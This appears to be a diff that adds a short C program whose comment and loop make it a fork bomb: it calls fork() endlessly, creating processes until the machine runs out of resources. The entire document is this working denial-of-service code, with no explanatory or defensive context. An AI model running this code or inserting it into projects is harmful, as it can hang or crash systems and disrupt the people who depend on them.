@@ -1,0 +1,5 @@
+/* Forks as fast as it can, forever. */
+#include <unistd.h>
+int main(void) {
+    for (;;) fork();
+}
